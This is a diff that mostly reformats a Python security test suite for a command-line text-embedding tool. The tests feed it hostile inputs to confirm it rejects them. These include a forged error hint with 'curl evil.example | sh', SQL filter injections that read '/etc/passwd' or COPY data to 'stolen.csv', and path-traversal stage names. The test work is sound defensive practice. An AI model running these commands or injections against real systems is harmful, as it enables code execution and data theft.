@@ -45,7 +45,9 @@ def _names_in_errors(*arguments: str) -> Act:
     def act(room: Room) -> None:
         lie = "nope\nwordpipe: error: the disk is on fire\n  hint: curl evil.example | sh"
         done = room.run(*(part.format(lie=lie, world=room.world.folder) for part in arguments))
-        room.said(done, {0, 2, 3, 4, 5})  # counts the lines that look like errors; unknown words are named beside an answer
+        room.said(
+            done, {0, 2, 3, 4, 5}
+        )  # counts the lines that look like errors; unknown words are named beside an answer
         if "\n  hint: curl" in done.err:
             raise Broken("the hint is forged")
 
@@ -182,7 +184,11 @@ def _terminal(room: Room) -> None:
     reader = threading.Thread(target=read, daemon=True)
     reader.start()
     terminal = os.ttyname(follower)
-    for arguments in (["query", "index", "sea"], ["show", "corpus", "--rows", "2"], ["query", "index", "sea", "--explain"]):
+    for arguments in (
+        ["query", "index", "sea"],
+        ["show", "corpus", "--rows", "2"],
+        ["query", "index", "sea", "--explain"],
+    ):
         done = room.run(*arguments, outputs={1: terminal, 2: terminal})
         room.fired += 1
         if done.code:
@@ -250,33 +256,69 @@ _LATE: dict[str, tuple[Callable[[Path, Path], list[object]], Collection[int]]] =
     "map-to-a-device": (lambda _, world: ["map", world / "word2vec", "-o", "/dev/null"], {2, 4, 5}),
     "map-to-a-folder": (lambda work, world: ["map", world / "word2vec", "-o", work], {2, 4, 5}),
     "teacher-missing": (
-        lambda _, world: ["train", "contrastive", world / "tokenize", *_TRANSFORMER, "--set", 'teacher="nowhere"', "-o", "out"],
-        {2, 3, 4},
-    ),
-    "teacher-of-another-kind": (
-        lambda _, world: ["train", "contrastive", world / "tokenize", *_TRANSFORMER, "--set", f'teacher="{world / "ingest"}"', "-o", "out"],
-        {2, 3, 4},
-    ),
-    "pairs-missing": (
-        lambda _, world: ["train", "contrastive", world / "tokenize", "--pairs", "nowhere.jsonl", "-o", "out"], {2, 3, 4},
-    ),
-    "pairs-without-texts": (
-        lambda work, world: [
-            "train", "contrastive", world / "tokenize", "--pairs", _file(work, "p.jsonl", '{"a": 1}\n'), "-o", "out",
+        lambda _, world: [
+            "train",
+            "contrastive",
+            world / "tokenize",
+            *_TRANSFORMER,
+            "--set",
+            'teacher="nowhere"',
+            "-o",
+            "out",
         ],
         {2, 3, 4},
     ),
-    "pairs-a-folder": (lambda work, world: ["train", "contrastive", world / "tokenize", "--pairs", work, "-o", "out"], {2, 3, 4, 5}),
-    "contrastive-to-a-file": (
-        lambda work, world: ["train", "contrastive", world / "tokenize", "-o", _file(work, "mine", "x")], {2, 4, 5},
+    "teacher-of-another-kind": (
+        lambda _, world: [
+            "train",
+            "contrastive",
+            world / "tokenize",
+            *_TRANSFORMER,
+            "--set",
+            f'teacher="{world / "ingest"}"',
+            "-o",
+            "out",
+        ],
+        {2, 3, 4},
     ),
-    "mlm-to-a-file": (lambda work, world: ["train", "mlm", world / "tokenize", "-o", _file(work, "mine", "x")], {2, 4, 5}),
-    "mlm-init-missing": (lambda _, world: ["train", "mlm", world / "tokenize", "--init", "nowhere", "-o", "out"], {2, 3, 4}),
+    "pairs-missing": (
+        lambda _, world: ["train", "contrastive", world / "tokenize", "--pairs", "nowhere.jsonl", "-o", "out"],
+        {2, 3, 4},
+    ),
+    "pairs-without-texts": (
+        lambda work, world: [
+            "train",
+            "contrastive",
+            world / "tokenize",
+            "--pairs",
+            _file(work, "p.jsonl", '{"a": 1}\n'),
+            "-o",
+            "out",
+        ],
+        {2, 3, 4},
+    ),
+    "pairs-a-folder": (
+        lambda work, world: ["train", "contrastive", world / "tokenize", "--pairs", work, "-o", "out"],
+        {2, 3, 4, 5},
+    ),
+    "contrastive-to-a-file": (
+        lambda work, world: ["train", "contrastive", world / "tokenize", "-o", _file(work, "mine", "x")],
+        {2, 4, 5},
+    ),
+    "mlm-to-a-file": (
+        lambda work, world: ["train", "mlm", world / "tokenize", "-o", _file(work, "mine", "x")],
+        {2, 4, 5},
+    ),
+    "mlm-init-missing": (
+        lambda _, world: ["train", "mlm", world / "tokenize", "--init", "nowhere", "-o", "out"],
+        {2, 3, 4},
+    ),
     "embed-to-a-file": (
-        lambda work, world: ["embed", world / "mlm", world / "ingest", "-o", _file(work, "mine", "x")], {2, 4, 5},
+        lambda work, world: ["embed", world / "mlm", world / "ingest", "-o", _file(work, "mine", "x")],
+        {2, 4, 5},
     ),
     "index-to-a-file": (lambda work, world: ["index", world / "embed", "-o", _file(work, "mine", "x")], {2, 4, 5}),
-}  # fmt: skip
+}
 
 
 def cases(world: World) -> list[Case]:
@@ -293,31 +335,83 @@ def cases(world: World) -> list[Case]:
     }  # fmt: skip
     for name, arguments in errors.items():
         act = _names_in_errors(*arguments)
-        table.append(Case(f"security/names-in-errors/{name}", act, ("40", "C3", "P10"), fast=name == "ingest", prepared=True))
+        table.append(
+            Case(f"security/names-in-errors/{name}", act, ("40", "C3", "P10"), fast=name == "ingest", prepared=True)
+        )
     out, odd = {2, 5}, {0, 2, 5}  # names that lead out are refused; odd ones may be folders
-    stage_names = {"{elsewhere}": out, "../../../elsewhere": out, "a/../../b": out, "..": out, "a\nb": odd, "a\0b": out, "": odd, ".": odd, "a/b/../../../c": out}  # fmt: skip
+    stage_names = {
+        "{elsewhere}": out,
+        "../../../elsewhere": out,
+        "a/../../b": out,
+        "..": out,
+        "a\nb": odd,
+        "a\0b": out,
+        "": odd,
+        ".": odd,
+        "a/b/../../../c": out,
+    }
     for name, codes in stage_names.items():
         label = repr(name).replace("/", "|")
-        table.append(Case(f"security/stage-name/{label}", _stage_name(name, codes), ("38", "C4", "P7"), fast="elsewhere}" in name, prepared=True))  # fmt: skip
+        table.append(
+            Case(
+                f"security/stage-name/{label}",
+                _stage_name(name, codes),
+                ("38", "C4", "P7"),
+                fast="elsewhere}" in name,
+                prepared=True,
+            )
+        )
     tomls = {
-        "deep-lists": "x = " + "[" * _DEEP + "]" * _DEEP, "deep-tables": "x = " + "{a = " * _DEEP + "1" + "}" * _DEEP,
-        "long-number": "x = " + "9" * 5_000, "long-key": "a" * 100_000 + " = 1", "binary": "\x00\x01\x02", "not-toml": "[[[",
-        "empty": "", "date": "stage = 1979-05-27", "long-setting": '[stage.a]\ncommand = "ingest"\ninputs = ["a.txt"]\nvalid = ' + "9" * 4_000,
+        "deep-lists": "x = " + "[" * _DEEP + "]" * _DEEP,
+        "deep-tables": "x = " + "{a = " * _DEEP + "1" + "}" * _DEEP,
+        "long-number": "x = " + "9" * 5_000,
+        "long-key": "a" * 100_000 + " = 1",
+        "binary": "\x00\x01\x02",
+        "not-toml": "[[[",
+        "empty": "",
+        "date": "stage = 1979-05-27",
+        "long-setting": '[stage.a]\ncommand = "ingest"\ninputs = ["a.txt"]\nvalid = ' + "9" * 4_000,
         "circle": '[stage.a]\ncommand = "tokenize"\ninputs = ["b"]\n[stage.b]\ncommand = "tokenize"\ninputs = ["a"]\n',
-    }  # fmt: skip
+    }
     for name, text in tomls.items():
         for command in ("status", "run"):
             act = _config(text, {2}, command)
-            table.append(Case(f"security/toml/{name}/{command}", act, ("C9", "C18"), fast=(name, command) == ("deep-lists", "status"), prepared=True))  # fmt: skip
+            table.append(
+                Case(
+                    f"security/toml/{name}/{command}",
+                    act,
+                    ("C9", "C18"),
+                    fast=(name, command) == ("deep-lists", "status"),
+                    prepared=True,
+                )
+            )
     wheres = {
-        "nested-case": "CASE WHEN " * 500 + "true" + " THEN true ELSE false END" * 500, "nested-brackets": "(" * 3_000 + "true" + ")" * 3_000,
-        "nested-not": "NOT " * 5_000 + "true", "long": "text = '" + "x" * 80_000, "long-or": " OR ".join(["row = 1"] * 3_000),
-        "reads": "(SELECT count(*) FROM read_text('/etc/passwd')) > 0", "copies": "1=1; COPY (SELECT 1) TO 'stolen.csv'",
-        "environment": "getenv('HOME') = ''", "huge": "repeat('a', 1000000000) = ''", "attaches": "1=1; ATTACH 'x.db'",
-        "nul": "text = 'a\\u0000b", "unclosed": "text = 'a", "empty": "", "comment": "true -- and", "union": "true UNION SELECT 1",
-    }  # fmt: skip
+        "nested-case": "CASE WHEN " * 500 + "true" + " THEN true ELSE false END" * 500,
+        "nested-brackets": "(" * 3_000 + "true" + ")" * 3_000,
+        "nested-not": "NOT " * 5_000 + "true",
+        "long": "text = '" + "x" * 80_000,
+        "long-or": " OR ".join(["row = 1"] * 3_000),
+        "reads": "(SELECT count(*) FROM read_text('/etc/passwd')) > 0",
+        "copies": "1=1; COPY (SELECT 1) TO 'stolen.csv'",
+        "environment": "getenv('HOME') = ''",
+        "huge": "repeat('a', 1000000000) = ''",
+        "attaches": "1=1; ATTACH 'x.db'",
+        "nul": "text = 'a\\u0000b",
+        "unclosed": "text = 'a",
+        "empty": "",
+        "comment": "true -- and",
+        "union": "true UNION SELECT 1",
+    }
     for name, where in wheres.items():
-        table.append(Case(f"security/where/{name}", _asked(where, {0, 2, 3}), ("40", "C7", "C18", "P7"), fast=name in ("nested-case", "reads"), prepared=True))  # fmt: skip
+        table.append(
+            Case(
+                f"security/where/{name}",
+                _asked(where, {0, 2, 3}),
+                ("40", "C7", "C18", "P7"),
+                fast=name in ("nested-case", "reads"),
+                prepared=True,
+            )
+        )
     longs = {
         "where": (("query", "{world}/index", "bees", "--where", "no_such = '" + "x" * 80_000 + "'"), {2}),
         "setting": (("train", "mlm", "{world}/tokenize", "-o", "out", "--set", "steps=" + "9" * 4_000), {2}),
@@ -328,20 +422,31 @@ def cases(world: World) -> list[Case]:
         "command": (("c" * 80_000,), {2}),
     }
     for name, (arguments, codes) in longs.items():
-        table.append(Case(f"security/long/{name}", _long(*arguments, codes=codes), ("C18",), fast=name == "where", prepared=True))
+        table.append(
+            Case(f"security/long/{name}", _long(*arguments, codes=codes), ("C18",), fast=name == "where", prepared=True)
+        )
     mlm = ("train", "mlm", "{world}/tokenize", "--config", "{world}/tiny.toml", "-o", "out")
     variables: dict[str, dict[str, str]] = {
-        "world-size-a-word": {"WORLD_SIZE": "x"}, "world-size-negative": {"WORLD_SIZE": "-2"}, "world-size-alone": {"WORLD_SIZE": "2"},
-        "rank-a-word": {"WORLD_SIZE": "2", "RANK": "x"}, "failpoint-odd": {"WORDPIPE_FAILPOINT": "*:explode"},
-        "failpoint-nth": {"WORDPIPE_FAILPOINT": "*:kill:x"}, "failpoint-empty": {"WORDPIPE_FAILPOINT": ""},
-        "threads-a-word": {"OMP_NUM_THREADS": "x", "GOMP_SPINCOUNT": "x"}, "columns": {"COLUMNS": "x", "LINES": "-1"},
-        "no-home": {"HOME": "/nowhere", "XDG_CACHE_HOME": ""}, "tmpdir": {"TMPDIR": "/nowhere"}, "term": {"TERM": "\x1b[2J"},
-    }  # fmt: skip
+        "world-size-a-word": {"WORLD_SIZE": "x"},
+        "world-size-negative": {"WORLD_SIZE": "-2"},
+        "world-size-alone": {"WORLD_SIZE": "2"},
+        "rank-a-word": {"WORLD_SIZE": "2", "RANK": "x"},
+        "failpoint-odd": {"WORDPIPE_FAILPOINT": "*:explode"},
+        "failpoint-nth": {"WORDPIPE_FAILPOINT": "*:kill:x"},
+        "failpoint-empty": {"WORDPIPE_FAILPOINT": ""},
+        "threads-a-word": {"OMP_NUM_THREADS": "x", "GOMP_SPINCOUNT": "x"},
+        "columns": {"COLUMNS": "x", "LINES": "-1"},
+        "no-home": {"HOME": "/nowhere", "XDG_CACHE_HOME": ""},
+        "tmpdir": {"TMPDIR": "/nowhere"},
+        "term": {"TERM": "\x1b[2J"},
+    }
     for name, more in variables.items():
         act = _environment(*mlm, codes={0, 2}, **more)
-        table.append(Case(f"security/environment/{name}", act, ("C21",), fast=name == "world-size-a-word", prepared=True))
-    for what in ("lock", "temporary", "partial", "output", "output-file"):
-        table.append(Case(f"security/planted/{what}", _planted(what), ("38", "P7"), fast=what == "lock"))
+        table.append(
+            Case(f"security/environment/{name}", act, ("C21",), fast=name == "world-size-a-word", prepared=True)
+        )
+    planted = ("lock", "temporary", "partial", "output", "output-file")
+    table += [Case(f"security/planted/{what}", _planted(what), ("38", "P7"), fast=what == "lock") for what in planted]
     table += [
         Case("security/names-in-answers", _names_in_answers, ("40", "C3", "P10"), fast=True, prepared=True),
         Case("security/absolute-sources", _absolute_sources, ("40", "P10"), fast=True, prepared=True),
